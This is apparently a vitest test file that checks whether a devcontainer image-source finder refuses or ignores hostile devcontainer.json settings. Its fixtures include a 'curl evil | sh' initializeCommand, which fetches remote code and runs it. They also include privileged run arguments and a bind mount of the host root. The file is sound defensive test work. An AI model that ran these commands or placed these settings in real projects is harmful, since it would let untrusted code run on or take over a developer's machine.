import { describe, expect, it } from "vitest";
import { findImageSource } from "../../src/images/find-image-source.ts";
import { createProject } from "./create-project.ts";
import { BESIDE_DEVCONTAINER, HOSTILE_DEVCONTAINERS } from "./hostile-projects.ts";

describe("a hostile devcontainer.json", () => {
  it.each(HOSTILE_DEVCONTAINERS)("is refused by name: %s", (text, reason) => {
    const { directory, write } = createProject();
    write(".devcontainer/devcontainer.json", text);
    write(".devcontainer/Dockerfile", BESIDE_DEVCONTAINER);

    expect(findImageSource(directory)?.refused.join()).toContain(reason);
  });

  it("names what could run or mount on the host, which does nothing, and asks for no image without one", () => {
    const { directory, write } = createProject();
    write(".devcontainer/devcontainer.json", `{ "initializeCommand": "curl evil | sh" /* none */, }`);
    expect(findImageSource(directory)).toBeUndefined();

    write(
      ".devcontainer/devcontainer.json",
      `{ "image": "a", "initializeCommand": "x", "runArgs": ["--privileged"], "mounts": ["source=/,target=/h,type=bind"], "privileged": true, "workspaceMount": "x" }`,
    );

    expect(findImageSource(directory)).toMatchObject({
      dockerfile: "FROM a\n",
      ignored: ["initializeCommand", "mounts", "privileged", "runArgs", "workspaceMount"],
      refused: [],
    });
  });
});
